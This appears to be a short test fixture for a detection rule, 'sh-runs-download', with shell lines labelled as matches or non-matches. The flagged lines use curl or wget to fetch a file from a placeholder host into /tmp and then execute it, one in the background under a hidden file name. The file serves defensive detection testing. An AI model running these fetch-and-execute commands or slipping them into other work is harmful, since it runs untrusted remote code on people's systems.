# ruleid: sh-runs-download
curl -s https://get.invalid/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &
# ruleid: sh-runs-download
wget -q -O /tmp/y https://get.invalid/y
sh /tmp/y
# ruleid: sh-runs-download
curl -sL "$U" > "$D/setup"
bash "$D/setup"
# ok: sh-runs-download
curl -o a.tgz https://get.invalid/a.tgz
tar xf a.tgz
# ok: sh-runs-download
chmod +x ./configure
